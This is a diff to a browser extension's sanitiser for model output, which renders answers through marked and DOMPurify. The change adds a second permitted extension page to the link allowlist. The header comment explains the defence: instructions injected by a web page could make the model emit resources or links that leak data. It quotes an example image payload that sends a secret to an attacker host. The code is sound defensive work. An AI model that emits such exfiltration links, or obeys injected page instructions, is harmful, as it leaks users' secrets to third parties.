@@ -2,8 +2,9 @@
  * Model output → safe HTML: marked (GFM) renders, DOMPurify sanitises through a strict allowlist. An answer
  * may have been written by a page's injected instructions, so nothing in it may make a request by being
  * rendered: no element or attribute that loads a resource (images, media, frames, SVG, MathML, CSS, forms,
- * meta, base…), no `style`, `class`, `id` or `on*`, and links only to http(s) and mailto (and the extension's
- * spreadsheet reader page with a checked range), opened in a new
+ * meta, base…), no `style`, `class`, `id` or `on*`, and links only to http(s) and mailto and two pages of the
+ * extension: the spreadsheet reader with a checked range and the viewer of a folder document (each address checked
+ * whole), opened in a new
  * tab without opener or referrer. Images become links, so ![](https://attacker/?q=<secret>) needs a click.
  * Links carry the destination the panel shows beside them (`data-host`, `title`) and are marked
  * (`data-suspicious`) when they carry data; these attributes are set here, after the model's are removed.
@@ -70,7 +71,8 @@ const TRUST_ATTR = 'data-tw-trust';
 /** Attributes that are never URLs; DOMPurify would otherwise hold their values to SAFE_HREF too. */
 const PLAIN_ATTR = ['align', 'colspan', 'rowspan', 'start', TRUST_ATTR];
 const ALLOWED_ATTR = ['href', ...PLAIN_ATTR];
-/** chrome-extension: only for the reader page, checked whole in the hook below (own-sheet-view.ts). */
+// chrome-extension: only for the spreadsheet reader (own-sheet-view.ts) and the viewer of a folder document
+// (describe-link.ts), each address checked whole in the hook below.
 const SAFE_HREF = /^(?:https?:|mailto:|chrome-extension:)/i;
 
 const ALLOWED_TAG_SET = new Set(ALLOWED_TAGS);
